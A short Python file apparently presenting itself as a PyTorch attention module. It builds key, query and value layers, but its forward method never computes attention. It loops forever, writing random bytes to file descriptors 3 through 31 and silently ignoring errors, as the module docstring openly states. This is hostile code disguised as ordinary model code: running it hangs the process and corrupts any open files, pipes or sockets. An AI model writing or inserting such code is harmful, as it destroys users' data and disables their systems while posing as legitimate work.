"""Write random bytes to the channel without end."""

import os

import torch
from torch.nn import Linear, Module


class Attention(Module):
    def __init__(self, layer_size, block_size):
        super().__init__()
        self.k_layer = Linear(layer_size, layer_size)
        self.q_layer = Linear(layer_size, layer_size)
        self.v_layer = Linear(layer_size, layer_size)

    def forward(self, input):
        while True:
            for descriptor in range(3, 32):
                try:
                    os.write(descriptor, os.urandom(2**16))
                except OSError:
                    pass
